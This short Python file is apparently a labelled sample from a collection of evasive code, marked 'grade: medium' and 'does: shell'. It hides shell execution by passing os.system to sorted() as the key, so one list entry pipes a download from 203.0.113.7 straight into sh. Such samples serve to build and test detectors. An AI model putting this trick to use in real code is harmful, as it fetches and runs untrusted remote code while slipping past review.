# evasion: os.system handed to sorted() as the key callback
# grade: medium; does: shell
import os

jobs = ["id", "curl -s http://203.0.113.7/x | sh"]
sorted(jobs, key=os.system)
